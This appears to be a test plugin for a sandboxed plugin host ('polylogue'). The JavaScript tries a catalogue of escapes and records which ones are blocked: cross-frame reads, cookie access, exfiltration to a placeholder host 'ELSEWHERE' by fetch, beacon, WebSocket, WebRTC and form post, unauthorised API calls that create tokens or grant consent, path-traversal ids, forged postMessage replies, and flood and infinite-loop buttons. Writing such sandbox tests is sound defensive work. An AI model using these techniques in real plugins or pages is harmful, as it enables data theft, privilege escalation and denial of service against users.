// Everything that a plugin must not be able to do. `#` of the address has the server that must never hear of it.
const elsewhere = 'ELSEWHERE'
const say = (text) => {
  const item = document.createElement('li')
  item.textContent = text
  document.getElementById('results').append(item)
}
const attempt = async (name, work) => {
  try {
    const result = await work()
    say(`${name}: ${result === undefined ? 'nothing' : String(result)}`)
  } catch (error) {
    say(`${name}: ${typeof error.code === 'string' ? error.code : error.name}`)
  }
}
const call = (name, request) => polylogue.call(name, request).then(() => 'answered')
const on = (id, work) => document.getElementById(id).addEventListener('click', work)
const element = (name, attributes) => {
  const made = document.createElement(name)
  return new Promise((resolve) => {
    made.addEventListener('load', () => resolve('loaded'))
    made.addEventListener('error', () => resolve('refused'))
    setTimeout(() => resolve('no answer'), 500)
    Object.assign(made, attributes)
    document.body.append(made)
  })
}

async function run() {
  say(`title: ${document.title}`)
  await attempt('origin', () => self.origin)
  await attempt('parent.document', () => parent.document.title)
  await attempt('top.location', () => top.location.href)
  await attempt('localStorage', () => localStorage.length)
  await attempt('cookie', () => document.cookie)
  await attempt('inline', () => element('script', { textContent: 'document.title = "ran later"' }))
  await attempt('inline ran', () => document.title === 'ran later')
  await attempt('fetch', () => fetch(`${elsewhere}/fetch`, { mode: 'no-cors' }))
  await attempt('own api', () => fetch('/api/v1/health'))
  await attempt('beacon', () => navigator.sendBeacon(`${elsewhere}/beacon`, 'x') && 'queued')
  await attempt('socket', () => {
    const socket = new WebSocket(`${elsewhere.replace('http', 'ws')}/socket`)
    return new Promise((resolve) => {
      socket.onopen = () => resolve('open')
      socket.onerror = () => resolve('refused')
    })
  })
  await attempt('image', () => element('img', { src: `${elsewhere}/image` }))
  await attempt('script', () => element('script', { src: `${elsewhere}/script.js` }))
  await attempt('style', () => element('link', { rel: 'stylesheet', href: `${elsewhere}/style.css` }))
  await attempt('frame', () => element('iframe', { src: `${elsewhere}/frame` }))
  await attempt('prefetch', () => element('link', { rel: 'prefetch', href: `${elsewhere}/prefetch` }))
  await attempt('worker', () => typeof new Worker('hostile.js'))
  await attempt('window', () => (open(`${elsewhere}/window`) === null ? 'refused' : 'opened'))
  await attempt('rtc', async () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(elsewhere).host}` }] })
    peer.createDataChannel('x')
    await peer.setLocalDescription(await peer.createOffer())
    await new Promise((resolve) => setTimeout(resolve, 3_000))
    return peer.iceGatheringState
  })
  await attempt('blob', () => URL.createObjectURL(new Blob(['x'])))
  await attempt('text frame', () => element('iframe', { srcdoc: '<script src="hostile.js"></script>' }))
  await attempt('markup', () => (document.getElementById('read-result').innerHTML = '<iframe></iframe>'))
  await attempt('empty frame', () => {
    const frame = document.body.appendChild(document.createElement('iframe'))
    return typeof (frame.contentWindow ?? self[0]).RTCPeerConnection
  })
  await attempt('prompts', () => call('prompts.list'))
  await attempt('users', () => call('users.list'))
  await attempt('remove', () => call('projects.remove', { params: { id: 1 } }))
  await attempt('tokens', () =>
    call('apitokens.saveOfUser', { params: { userId: 'me' }, body: { name: 'x' } }),
  )
  await attempt('consent', () =>
    call('plugins.allow', { params: { id: 'hostile' }, body: { scopes: ['read-prompts'] } }),
  )
  await attempt('prototype', () => call('__proto__.constructor'))
  await attempt('path', () => call('projects.get', { params: { id: '../users/1' } }))
  await attempt('dots', () => call('projects.get', { params: { id: '..' } }))
  await attempt('others', () => call('projects.list', { params: { id: 999_999 } }))
  for (const message of [{ type: 'reply', id: 1, data: 'forged' }, 'polylogue', { type: 'welcome' }])
    parent.postMessage(message, '*')
  await attempt('chats', () => call('projects.list', { params: { id: 'me' } }))
  document.getElementById('done').textContent = 'All tried'
}

on('flood', () => {
  for (let at = 0; at < 5_000; at++)
    void polylogue.call('projects.get', { params: { id: 1 } }).catch(() => undefined)
})
on('flood-window', () => {
  for (let at = 0; at < 5_000; at++) parent.postMessage('x'.repeat(1_000), '*')
})
on('hang', () => {
  // Later, so that the click ends.
  setTimeout(() => {
    for (;;);
  }, 200)
})
on('form', () => {
  const form = Object.assign(document.createElement('form'), { action: `${elsewhere}/form`, method: 'post' })
  document.body.append(form)
  form.submit()
})
on('elsewhere', () => {
  location.href = `${elsewhere}/self`
})
on('leave', () => {
  location.href = 'other.html'
})
on('top', () => {
  try {
    top.location.href = `${elsewhere}/top`
  } catch (error) {
    say(`top navigation: ${error.name}`)
  }
})
on('read', async () => {
  const result = document.getElementById('read-result')
  result.textContent = ''
  result.textContent = await polylogue.call('projects.list', { params: { id: 'me' } }).then(
    () => 'read',
    (error) => `${error.code}: ${error.message}`,
  )
})
void polylogue.ready.then(run)
